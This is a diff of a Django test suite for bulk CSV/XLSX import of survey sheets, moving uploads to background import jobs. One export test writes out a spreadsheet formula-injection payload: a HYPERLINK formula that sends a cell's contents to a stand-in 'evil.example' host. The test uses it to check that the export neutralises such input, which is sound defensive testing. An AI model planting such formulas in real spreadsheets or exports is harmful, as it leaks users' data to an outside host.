@@ -1,11 +1,16 @@
 """Bulk import of keyed sheets from CSV or XLSX: all or nothing, every bad row and column
-listed with the reason in the user's language; files judged by content and size."""
+listed with the reason in the user's language; files judged by content and size.
+
+Each upload goes through the page, which stores the file as an import job; the job's task
+then runs (eagerly, when the upload's transaction commits, as a worker would take it) and
+the test reads the job's page, where the outcome or the problems are shown."""
 
 import csv
 import io
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import TestCase
 from django.urls import reverse
 from django.utils import translation
 from openpyxl import Workbook, load_workbook
@@ -23,7 +28,7 @@ from surveys.paper_import import (
     neutralise,
     template_header,
 )
-from surveys.paper_models import PaperEntry, Sheet
+from surveys.paper_models import ImportJob, PaperEntry, Sheet
 from surveys.paper_services import (
     ALREADY_COMMITTED,
     ALREADY_ENTERED_BY_YOU,
@@ -79,10 +84,25 @@ def xlsx_file(definition, rows, name="entries.xlsx"):
 
 
 def upload(client, batch, file, **extra):
-    return client.post(reverse("paper:batch_import", args=[batch.pk]), {"file": file}, **extra)
+    """Upload `file` on the batch's import page, let its job run, and return the job's page
+    (or the upload's own answer when it stored no job: a refusal)."""
+    # The job's task is sent once the upload's transaction commits; these callbacks are
+    # that moment inside the test's transaction (Celery runs tasks eagerly in tests).
+    with TestCase.captureOnCommitCallbacks(execute=True):
+        response = client.post(reverse("paper:batch_import", args=[batch.pk]), {"file": file}, **extra)
+    if response.status_code != 302:
+        return response
+    assert response["Location"].startswith("/volunteer/imports/"), response["Location"]
+    return client.get(response["Location"], **extra)
+
+
+def committed(response) -> bool:
+    """The job page of an import that stored its rows."""
+    return response.status_code == 200 and response.context["job"].status == ImportJob.Status.COMMITTED
 
 
 def problems(response) -> set[tuple[int, str, str]]:
+    assert response.context["job"].status == ImportJob.Status.FAILED
     return {(error["row"], error["column"], error["message"]) for error in response.context["row_errors"]}
 
 
@@ -98,7 +118,8 @@ class TestAGoodFile:
         response = upload(
             login(coordinator), paper_batch, csv_file(definition, [(s.serial, sheet_answers) for s in sheets])
         )
-        assert response.status_code == 302
+        assert committed(response)
+        assert response.context["job"].outcome == {"entries": 3, "first_entries": 3, "committed": 0, "conflicts": 0}
         entries = PaperEntry.objects.all()
         assert entries.count() == 3
         assert {(e.entered_by, e.source) for e in entries} == {(coordinator, PaperEntry.Source.IMPORT)}
@@ -112,7 +133,7 @@ class TestAGoodFile:
         for sheet in sheets:
             paper_entry_create(sheet=sheet, user=volunteer_a, answers=sheet_answers)
         rows = [(sheets[0].serial, sheet_answers), (sheets[1].serial, {**sheet_answers, "pol_fair": 5})]
-        upload(login(coordinator), paper_batch, csv_file(definition, rows))
+        assert committed(upload(login(coordinator), paper_batch, csv_file(definition, rows)))
         statuses = dict(Sheet.objects.values_list("serial", "status"))
         assert statuses[sheets[0].serial] == Sheet.Status.COMMITTED
         assert statuses[sheets[1].serial] == Sheet.Status.CONFLICT
@@ -128,7 +149,7 @@ class TestAGoodFile:
         for sheet in sheets[:2]:
             paper_entry_create(sheet=sheet, user=volunteer_a, answers=answers)
         paper_entry_create(sheet=sheets[0], user=volunteer_a2, answers=answers)  # one by one
-        upload(login(coordinator), paper_batch, csv_file(definition, [(sheets[1].serial, answers)]))  # in bulk
+        assert committed(upload(login(coordinator), paper_batch, csv_file(definition, [(sheets[1].serial, answers)])))
         keyed, bulk = (Sheet.objects.get(pk=sheet.pk).response for sheet in sheets[:2])
         fields = (
             "answers",
@@ -154,29 +175,32 @@ class TestAGoodFile:
         from surveys import roles
         from tests.conftest import make_staff
 
-        upload(login(coordinator), paper_batch, csv_file(definition, [(s.serial, sheet_answers) for s in sheets]))
+        assert committed(
+            upload(login(coordinator), paper_batch, csv_file(definition, [(s.serial, sheet_answers) for s in sheets]))
+        )
         client.logout()
         deputy = make_staff("deputy", roles.COORDINATOR, [district_a])
-        upload(login(deputy), paper_batch, csv_file(definition, [(s.serial, sheet_answers) for s in sheets]))
+        second = upload(login(deputy), paper_batch, csv_file(definition, [(s.serial, sheet_answers) for s in sheets]))
+        assert committed(second) and second.context["job"].outcome["committed"] == 3
         assert Response.objects.count() == 3
 
     def test_a_filled_in_xlsx_is_imported(self, login, coordinator, paper_batch, sheets, definition, sheet_answers):
         response = upload(login(coordinator), paper_batch, xlsx_file(definition, [(sheets[0].serial, sheet_answers)]))
-        assert response.status_code == 302 and PaperEntry.objects.get().answers == sheet_answers
+        assert committed(response) and PaperEntry.objects.get().answers == sheet_answers
 
     def test_a_csv_from_russian_excel_with_semicolons_in_windows_1251_is_imported(
         self, login, coordinator, paper_batch, sheets, definition, sheet_answers
     ):
         answers = {**sheet_answers, "unsafe_place_type": 8, "unsafe_place_note": "рынок у вокзала"}
         file = csv_file(definition, [(sheets[0].serial, answers)], delimiter=";", encoding="cp1251")
-        assert upload(login(coordinator), paper_batch, file).status_code == 302
+        assert committed(upload(login(coordinator), paper_batch, file))
         assert PaperEntry.objects.get().answers["unsafe_place_note"] == "рынок у вокзала"
 
     def test_rows_that_hold_only_a_serial_are_skipped(
         self, login, coordinator, paper_batch, sheets, definition, sheet_answers
     ):
         rows = [(sheets[0].serial, sheet_answers), (sheets[1].serial, {})]
-        assert upload(login(coordinator), paper_batch, csv_file(definition, rows)).status_code == 302
+        assert committed(upload(login(coordinator), paper_batch, csv_file(definition, rows)))
         assert PaperEntry.objects.count() == 1
 
     def test_the_import_costs_the_same_queries_for_ten_rows_as_for_three(
@@ -252,6 +276,7 @@ class TestBadRows:
         client = login(coordinator)
         response = upload(client, paper_batch, csv_file(definition, rows))
         assert response.status_code == 200
+        assert response.context["job"].row_error_count == 8
         assert problems(response) == {
             (3, "serial", ru(SERIAL_UNKNOWN)),
             (4, "serial", ru(SERIAL_CHECK_FAILED)),
@@ -314,7 +339,7 @@ class TestBadFiles:
         self, login, coordinator, paper_batch, content, name
     ):
         response = upload(login(coordinator), paper_batch, SimpleUploadedFile(name, content))
-        assert response.status_code == 200
+        assert response.status_code == 200 and response.context["job"].status == ImportJob.Status.FAILED
         assert response.context["file_error"] in (ru(NOT_A_TABLE), ru(paper_import.BROKEN_XLSX))
         assert not PaperEntry.objects.exists()
 
@@ -322,7 +347,7 @@ class TestBadFiles:
         self, login, coordinator, paper_batch, sheets, definition, sheet_answers
     ):
         file = csv_file(definition, [(sheets[0].serial, sheet_answers)], name="photo.png")
-        assert upload(login(coordinator), paper_batch, file).status_code == 302
+        assert committed(upload(login(coordinator), paper_batch, file))
 
     def test_an_old_xls_file_is_refused_with_advice(self, login, coordinator, paper_batch):
         content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
@@ -333,24 +358,25 @@ class TestBadFiles:
         def must_not_parse(*args, **kwargs):
             raise AssertionError("a file over the limit was parsed")
 
-        monkeypatch.setattr("surveys.paper_views.read_table", must_not_parse)
+        monkeypatch.setattr("surveys.paper_import_jobs.read_table", must_not_parse)
         big = SimpleUploadedFile("entries.csv", b"serial\n" + b"x" * (50 * 1024 * 1024))
         response = upload(login(coordinator), paper_batch, big)
         assert response.status_code == 413
         assert "5,0" in response.context["file_error"] or "5.0" in response.context["file_error"]
-        assert not PaperEntry.objects.exists()
+        assert not PaperEntry.objects.exists() and not ImportJob.objects.exists()
 
     def test_a_file_just_over_the_limit_is_refused_by_its_size(
         self, login, coordinator, paper_batch, settings, monkeypatch
     ):
         settings.PAPER_IMPORT_MAX_BYTES = 1000
-        monkeypatch.setattr("surveys.paper_views.read_table", lambda *a: pytest.fail("parsed"))
+        monkeypatch.setattr("surveys.paper_import_jobs.read_table", lambda *a, **k: pytest.fail("parsed"))
         response = upload(login(coordinator), paper_batch, SimpleUploadedFile("e.csv", b"serial\n" + b"1" * 1200))
-        assert response.status_code == 413
+        assert response.status_code == 413 and not ImportJob.objects.exists()
 
     def test_an_empty_file_is_refused(self, login, coordinator, paper_batch):
         response = upload(login(coordinator), paper_batch, SimpleUploadedFile("e.csv", b"serial,safe_walk_day\n"))
-        assert response.status_code == 200 and response.context["row_errors"]
+        assert response.status_code == 200 and response.context["job"].status == ImportJob.Status.FAILED
+        assert response.context["row_errors"]
 
 
 class TestTemplatesAndExports:
@@ -377,7 +403,7 @@ class TestTemplatesAndExports:
         attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
         answers = {**sheet_answers, "unsafe_place_type": 8, "unsafe_place_note": attack}
         client = login(coordinator)
-        assert upload(client, paper_batch, csv_file(definition, [(sheets[0].serial, answers)])).status_code == 302
+        assert committed(upload(client, paper_batch, csv_file(definition, [(sheets[0].serial, answers)])))
         assert PaperEntry.objects.get().answers["unsafe_place_note"] == attack
         export = client.get(reverse("paper:batch_export", args=[paper_batch.pk]))
         rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
@@ -406,7 +432,7 @@ class TestWhoMayImport:
 
         other = make_staff("coordinator_b", roles.COORDINATOR, [district_b])
         response = upload(login(other), paper_batch, csv_file(definition, [(sheets[0].serial, sheet_answers)]))
-        assert response.status_code == 403 and not PaperEntry.objects.exists()
+        assert response.status_code == 403 and not PaperEntry.objects.exists() and not ImportJob.objects.exists()
 
     def test_an_upload_without_the_csrf_token_is_refused(
         self, coordinator, paper_batch, definition, sheets, sheet_answers
@@ -416,4 +442,4 @@ class TestWhoMayImport:
         client = Client(enforce_csrf_checks=True)
         client.force_login(coordinator, backend="django.contrib.auth.backends.ModelBackend")
         response = upload(client, paper_batch, csv_file(definition, [(sheets[0].serial, sheet_answers)]))
-        assert response.status_code == 403 and not PaperEntry.objects.exists()
+        assert response.status_code == 403 and not PaperEntry.objects.exists() and not ImportJob.objects.exists()
